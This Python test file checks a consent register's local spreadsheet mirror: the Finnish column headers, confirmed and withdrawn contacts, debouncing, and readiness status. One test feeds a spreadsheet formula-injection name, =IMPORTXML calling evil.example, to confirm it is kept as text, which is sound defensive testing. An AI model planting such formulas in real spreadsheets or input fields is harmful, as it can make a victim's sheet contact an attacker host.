"""The register mirror without Google: a spreadsheet file in the data dir, kept in step."""

from __future__ import annotations

from typing import Any

import pytest
from sqlalchemy import func, select

from mirrors.local_file import LocalFileMirror
from service.domain import ledger
from service.domain.ledger import Actor
from service.domain.models import Contact, EventKind, Method, OutboxItem
from service.domain.tokens import Purpose
from tests.register_support import readiness_details


def opt_in_and_confirm(client: Any, container: Any, email: str, **fields: Any) -> str:
    assert client.post("/api/v1/subscribe",
                       json={"email": email, "consent": True, **fields}).status_code == 202
    with container.session_factory() as session:
        contact = session.scalars(select(Contact).where(Contact.email == email)).one()
    token = container.deps.tokens.sign(
        Purpose.CONFIRM, {"c": contact.public_id, "r": 0, "ch": ["email"]})
    assert client.post(f"/confirm/{token}").status_code == 200
    return contact.public_id


def tab(container: Any) -> list[list[str]]:
    mirror = container.mirror
    assert isinstance(mirror, LocalFileMirror)
    return [list(row) for row in mirror.read()]


def settle(container: Any, clock: Any) -> None:
    clock.advance(seconds=2)  # past the debounce
    container.worker().drain()


def test_confirmed_contact_appears_in_the_file_and_a_withdrawn_one_vanishes(
    client: Any, container: Any, clock: Any
) -> None:
    public_id = opt_in_and_confirm(client, container, "maija@example.fi", name="Maija")
    settle(container, clock)
    rows = tab(container)
    assert rows[0][:3] == ["Tunniste", "Sähköposti", "Nimi"]
    assert rows[1][:3] == [public_id, "maija@example.fi", "Maija"]
    assert rows[1][5] == "kyllä"
    assert rows[1][6] == "2026-11-20 11:00", "consent time in Europe/Helsinki"
    assert rows[1][11].startswith("https://consent.example.fi/unsubscribe/")

    with container.uow() as uow:
        contact = ledger.find_contact(uow.session, public_id, lock=True)
        assert contact is not None
        ledger.record(uow.session, contact, "email", EventKind.WITHDRAWN,
                      Method.STAFF_ON_REQUEST, Actor.person(), now=clock.now())
        uow.commit()
    settle(container, clock)
    assert tab(container) == [rows[0]]


def test_pending_contact_is_not_on_the_register(client: Any, container: Any, clock: Any) -> None:
    client.post("/api/v1/subscribe", json={"email": "ville@example.fi", "consent": True})
    settle(container, clock)
    assert len(tab(container)) == 1


def test_formula_like_name_arrives_as_text(client: Any, container: Any, clock: Any) -> None:
    opt_in_and_confirm(client, container, "x@example.fi",
                       name='=IMPORTXML("https://evil.example","//a")')
    settle(container, clock)
    assert tab(container)[1][2] == '=IMPORTXML("https://evil.example","//a")'


@pytest.mark.both_databases
def test_a_burst_of_changes_becomes_one_mirror_pass(
    client: Any, container: Any, clock: Any
) -> None:
    for i in range(30):
        client.post("/api/v1/subscribe", json={"email": f"p{i}@example.fi", "consent": True})
    with container.session_factory() as session:
        queued = session.scalar(select(func.count()).select_from(OutboxItem).where(
            OutboxItem.kind == "mirror.pass"))
    assert queued == 1


def test_readiness_shows_the_mirrors_last_success(
    client: Any, container: Any, clock: Any
) -> None:
    opt_in_and_confirm(client, container, "maija@example.fi")
    settle(container, clock)
    mirror = readiness_details(client, container)["mirror"]
    assert mirror["last_success"].startswith("2026-11-20")
    assert mirror["last_error"] is None
    assert mirror["lag_seconds"] == 0.0
